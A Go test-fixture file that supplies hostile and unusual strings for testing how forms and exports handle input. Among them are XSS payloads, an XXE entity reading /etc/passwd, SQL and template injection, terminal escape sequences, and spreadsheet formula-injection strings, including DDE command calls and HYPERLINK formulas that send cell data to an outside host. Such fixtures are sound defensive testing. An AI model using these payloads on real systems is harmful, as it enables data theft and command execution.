package publishtest

import (
	"slices"
	"strings"

	"interlock/model/exchange/exchangetest"
)

// Hostile lists texts that one form or another trips over, by what they are.
func Hostile() map[string][]string {
	return map[string][]string{
		"markup":   slices.Concat(exchangetest.Hostile(), markup()),
		"scripts":  scripts(),
		"controls": controls(),
		"formulas": formulas(),
		"blank":    {"", " ", "   ", "\t", "\n", "\u00a0", "\u3000", "\u200b", "\u2060", "\ufeff", "\r\n\r\n"},
		"long":     long(),
	}
}

func markup() []string {
	return []string{
		`<img src=x onerror=alert(1)>`, `"><svg onload=alert(1)>`, `</style><script>alert(1)</script>`, `</title><script>alert(1)</script>`,
		`' onmouseover='alert(1)`, `javascript:alert(1)`, `<a href="javascript:alert(1)">x</a>`, `<!-- -->`, `]]><b>`, `<![CDATA[ x ]]>`, `<?xml version="1.0"?>`,
		`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`, `&lt;script&gt;`, `&#60;script&#62;`, `url(https://example.org/x.png)`, `@import "https://example.org"`,
		`![x](https://example.org/x.png)`, `[x]: https://example.org "y"`, `<https://example.org>`, "```mermaid\ngraph TD\n```", "~~~", "\n\n# Head\n\n- list\n", "a | b\n--|--\nc | d",
		"%%{init: {\"theme\": \"dark\", \"themeCSS\": \"* {color: red}\"}}%%", "click A href \"javascript:alert(1)\"", "journey\n  section x\n    a: 5: b", "A[\"x\"] --> B", "x:::y", "---\ntitle: x\n---",
		"(a) \\(b\\) <</JS (app.alert(1))>>", "endstream endobj", "%PDF-1.7", "PK\x03\x04", "_x000D_", "_x0041_", "{{.}}", "{{constructor.constructor('x')()}}", "<%= x %>", "$(rm)", "'; DROP TABLE x; --",
		"key: [a, {b: c}]", "!!python/object:x", "&anchor *alias", "? x", "- - -", "%YAML 1.2", "{\"a\": null}",
	}
}

func scripts() []string {
	return []string{
		"Größe, naïve, İstanbul, ŁÓDŹ", "Ελληνικά ΐ", "Русский й", "Հայերեն", "ქართული", "עִבְרִית", "العَرَبِيَّة ٣", "فارسی ۴", "ܣܘܪܝܝܐ", "ދިވެހި", "ߒߞߏ",
		"हिन्दी क्ष", "বাংলা", "ਪੰਜਾਬੀ", "ગુજરાતી", "ଓଡ଼ିଆ", "தமிழ்", "తెలుగు", "ಕನ್ನಡ", "മലയാളം", "සිංහල", "ภาษาไทยไม่มีช่องว่าง", "ພາສາລາວ", "བོད་སྐད", "မြန်မာ", "ភាសាខ្មែរ",
		"አማርኛ", "ᏣᎳᎩ", "ᐃᓄᒃᑎᑐᑦ", "ᚠᚢᚦᚨᚱᚲ", "ᓀᐦᐃᔭᐍᐏᐣ", "ᠮᠣᠩᠭᠣᠯ", "漢字かなカナ交じり、句読点。", "简体中文", "繁體中文", "한국어", "한글", "ꦗꦮ", "ⵜⴰⵎⴰⵣⵉⵖⵜ", "𐌰𐌱𐌲", "𓀀𓁐", "𝒳𝓎𝔷", "𠀀𪚥",
		"👍🏽", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪🇫🇷🇯", "🧑🏿‍🚀", "1️⃣#️⃣", "☺︎☺️", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "👁️‍🗨️", "e\u0301\u0323\u0302", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!", "ﷺ", "½ ⅔ № ™ ﬁ", "−1 – 2 — 3", "→ ⇄ ✓ ✗ ■ ∞", "\U0010FFFD\uE000",
	}
}

func controls() []string {
	texts := []string{
		"\x1b]0;owned\x07", "\x1b[2J\x1b[31mred\x1b[0m", "\u009b31m", "a\x00b", "\x7f", "bell\x07", "back\b\b\bspace", "form\ffeed", "vertical\vtab", "a\rb", "a\r\nb", "\u0085", "\u2028x\u2029",
		"\u202eesrever", "\u202dltr", "\u202aemb\u202bed", "\u2066iso\u2067late\u2068d\u2069", "\u200eleft\u200fright", "\u061carab", "soft\u00adhyphen", "zero\u200bwidth", "join\u200dme", "word\u2060joiner",
		"\ufeffmark", "\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\ufffd", "\ufff9anno\ufffaing\ufffb", "\U000e0041tag", "\u034f", "\u115f\u3164\uffa0", "\u180e", "\u0600\u06dd",
	}
	for control := rune(1); control < ' '; control++ {
		texts = append(texts, "c"+string(control)+"c", string(control))
	}
	return texts
}

func formulas() []string {
	var texts []string
	for _, start := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "''", "\x00=", "\ufeff=", "\u200b=", "\u00a0=", ";=", ",=", "\"="} {
		texts = append(texts, start+`HYPERLINK("https://example.org?x="&A1,"open")`, start+"cmd|' /C calc'!A0", start+"1+1")
	}
	return append(texts, "-3", "+4", "1e5", "1,5", "0x10", "00123", "12:30", "2025-06-12", "TRUE", "#REF!", "#N/A", "DDE(\"cmd\")", "=", "-", "@", "+")
}

// long are texts that fill pages, with short ones between them.
func long() []string {
	var texts []string
	for _, each := range []string{
		strings.Repeat("x", 10_000), strings.Repeat("Donaudampfschiff", 625), strings.Repeat("word ", 2_000), strings.Repeat("漢", 3_000), strings.Repeat("👩‍👩‍👧", 500),
		"e" + strings.Repeat("\u0301", 2_000), strings.Repeat("=", 10_000), strings.Repeat("[", 10_000), strings.Repeat("&", 3_000), strings.Repeat("line\n", 500),
	} {
		texts = append(texts, each)
		texts = append(texts, slices.Repeat([]string{"short", "two words"}, 15)...)
	}
	return texts
}
